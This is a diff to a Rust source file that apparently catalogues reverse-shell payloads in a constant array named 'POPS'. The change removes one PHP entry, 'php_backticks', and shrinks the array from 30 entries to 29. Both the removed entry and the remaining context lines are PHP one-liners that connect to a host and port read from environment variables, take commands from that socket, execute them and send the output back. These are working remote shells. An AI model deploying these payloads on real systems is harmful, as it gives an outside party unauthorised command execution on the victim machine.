@@ -18,7 +18,7 @@ pub const LOOP_INBOUND: Want = Want {
 };
 
 /// What bash runs.
-const POPS: [(&str, &[&str], &str); 30] = [
+const POPS: [(&str, &[&str], &str); 29] = [
     (
         "ruby_popen",
         &["ruby"],
@@ -109,11 +109,6 @@ while($l=fgets($s)){ $o=[]; exec(trim($l),$o); fwrite($s,implode("\n",$o)."\n");
         &["php"],
         r#"php -n -r '$s=stream_socket_client("tcp://".getenv("H").":".getenv("P"));
 while($l=fgets($s)){ $p=popen($l,"r"); while(!feof($p)) fwrite($s,fread($p,1024)); pclose($p); }'; true"#,
-    ),
-    (
-        "php_backticks",
-        &["php"],
-        r#"exec php -n -r '$s=fsockopen(getenv("H"),(int)getenv("P")); while($l=fgets($s)) fwrite($s,`$l`);'"#,
     ),
     (
         "php_buffered_system",
